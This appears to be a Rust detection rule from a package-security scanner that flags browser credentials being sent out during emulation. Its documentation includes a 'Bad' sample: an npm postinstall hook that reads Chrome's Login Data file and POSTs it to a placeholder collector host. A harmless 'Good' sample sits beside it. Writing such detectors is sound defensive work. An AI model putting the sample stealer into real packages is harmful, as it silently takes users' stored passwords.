//! # A browser's logins are seen leaving
//!
//! Run in a fake world, the code sent stored logins, cookies or keys of a browser's profile.
//!
//! ## Why it matters
//!
//! A cookie is a session that is already logged in; stored logins are passwords in the clear once their key is there too.
//!
//! ## Known benign uses
//!
//! Tools that import bookmarks run when asked and send nothing.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os"), path = require("path");
//! const profile = path.join(os.homedir(), ".config/google-chrome/Default/Login Data");
//! fs.readFile(profile, (error, data) => {
//!   if (!error) require("https").request("https://collector.invalid/b", { method: "POST" }).end(data.toString("hex")); //~ here
//! });
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), os = require("os"), path = require("path");
//! exports.hasChrome = fs.existsSync(path.join(os.homedir(), ".config/google-chrome/Default/Login Data"));
//! ```
//!
//! ## References
//!
//! - Lazarus packages of March 2025 (BeaverTail)

use crate::prelude::*;

/// A browser's logins are seen leaving.
pub struct BrowserLoginSeenLeaving;

impl Rule for BrowserLoginSeenLeaving {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "browser-login-seen-leaving",
            title: "A browser's logins are seen leaving",
            tier: Tier::Emulation,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1555.003",
            covers: &["collect-browser-profiles"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_theirs = |class: SecretClass| matches!(class, SecretClass::Browser);
        facts.thefts(is_theirs).for_each(|proof| found.seen(proof));
    }
}
